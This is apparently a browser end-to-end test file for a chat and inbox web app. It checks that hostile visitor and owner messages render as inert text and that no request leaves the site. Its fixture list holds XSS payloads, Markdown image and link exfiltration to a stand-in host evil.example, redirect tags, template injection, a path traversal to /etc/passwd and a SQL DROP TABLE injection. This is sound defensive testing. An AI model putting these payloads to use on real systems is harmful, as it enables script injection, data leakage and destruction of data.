// What a visitor writes is text and nothing else, wherever it is shown.

import assert from "node:assert/strict";
import { overflows } from "../lib/checks.mjs";
import { answers, say, shot, signIn, waiting } from "../lib/browser.mjs";

// After the Big List of Naughty Strings (MIT), and what is known of data leaking by rendered Markdown.
const NAUGHTY = [
  `<img src=x onerror=alert(1)><script>alert(2)</script>`,
  `"'><svg onload=alert(3)></textarea></blockquote><script>alert(4)</script><style>body{display:none}</style>`,
  `![status](https://evil.example/leak?q=secret) [click here](https://evil.example/?q=secret) <https://evil.example> [a]: javascript:alert(5)`,
  `<a href="javascript:alert(6)" onmouseover=alert(7)>x</a><iframe srcdoc="<script>alert(8)</script>"></iframe><base href="https://evil.example/">`,
  `<meta http-equiv="refresh" content="0;url=https://evil.example/"><link rel=stylesheet href=//evil.example/x.css><form action=//evil.example>`,
  "{{7*7}} ${7*7} {% raw %} <%= 7*7 %> %s%n %00 ../../etc/passwd '; DROP TABLE conversations; -- 1/0 NaN undefined null",
  "\u202Etest\u202C \u2066left\u2069 Ṱ̺̺̕o͞ ̷i̲̬͇̪͙n̝̗͕v̟̜̘̦͟o̶̙̰̠kè͚̮̺̪̹̱̤ \uFEFF\u200B ﷽ 👩‍👩‍👧‍👦 🏳️‍🌈 社會科學院語學研究所 הָיְתָהtest مُنَاقَشَةُ",
  "W".repeat(400),
];

/** Everything that was said is shown as it was said, and nothing of it has become an element. */
async function harmless(page, root, text) {
  const shown = page.locator(root);
  await shown.first().waitFor();
  const alive = await shown.evaluateAll((roots) => roots.flatMap((one) =>
    [...one.querySelectorAll("img, script, style, iframe, object, embed, base, meta, link, form[action*=evil], a[href*=evil], a[href^=javascript], [onerror], [onload], [onmouseover]")]
      .map((bad) => bad.outerHTML.slice(0, 80))));
  assert.deepEqual(alive, []);
  const plain = (words) => words.replaceAll(/\s+/g, " ").trim();
  const all = plain((await shown.allTextContents()).join("\n"));
  assert.ok(all.includes(plain(text)), `${root} shows the text as it was written: ${text.slice(0, 60)}`);
}

export default function hostile(promise) {
  promise("hostile text stays text in the playground, the inbox, the chat and the list: nothing runs, nothing leaves", async ({ meet, house }) => {
    const [visitor, held, owner] = [await meet(), await meet(), await meet()];
    await signIn(owner);
    // One chat that the drafter reads, one that is held: different templates show them.
    const asked = `How long does shipping to Canada take?\n${NAUGHTY[0]}`;
    await say(visitor, asked);
    await say(held, `I want a refund ${NAUGHTY[1]}`);
    for (const text of NAUGHTY.slice(2)) await say(held, text);
    for (const text of NAUGHTY.slice(1)) await harmless(held.page, "#chat .thread", text);
    await harmless(visitor.page, "#chat .thread", asked);
    await shot(held.page, "hostile-playground", true);

    const cards = [owner.page.locator(".card", { hasText: "<script>alert(2)" }), waiting(owner, "</textarea>")];
    for (const card of cards) await card.waitFor();
    await harmless(owner.page, "main", asked);
    await waiting(owner, "W".repeat(400)).waitFor();
    for (const text of NAUGHTY.slice(1)) await harmless(owner.page, "#humans", text);
    await shot(owner.page, "hostile-inbox", true);
    await cards[1].getByRole("link", { name: "Open the chat" }).click();
    for (const text of NAUGHTY.slice(1)) await harmless(owner.page, "#thread", text);
    for (const viewport of [{ width: 390, height: 844 }, { width: 1280, height: 800 }]) {
      await owner.page.setViewportSize(viewport);
      assert.deepEqual(await owner.page.evaluate(overflows), [], "a word of 400 letters does not widen the chat");
    }
    await shot(owner.page, "hostile-thread", true);

    // The owner's own words are no less text than the visitor's.
    await owner.page.getByRole("textbox", { name: "Reply by hand" }).fill(`${NAUGHTY[1]}\n${NAUGHTY[2]}`);
    await owner.page.getByRole("button", { name: "Send in my name" }).click();
    await answers(held).filter({ hasText: "alert(4)" }).waitFor();
    await harmless(held.page, "#chat .thread", NAUGHTY[2]);
    for (const path of ["/conversations", "/", `/knowledge?q=${encodeURIComponent(NAUGHTY[1])}`, `/conversations?topic=${encodeURIComponent(NAUGHTY[1])}`]) {
      await owner.go(path);
      await harmless(owner.page, "main", "");
    }
    for (const one of [visitor, held, owner]) {
      one.clean();
      assert.ok(one.requests.length > 3 && one.requests.every((url) => url.startsWith(`${house.url}/`)), "every request stays here");
    }
  });
}
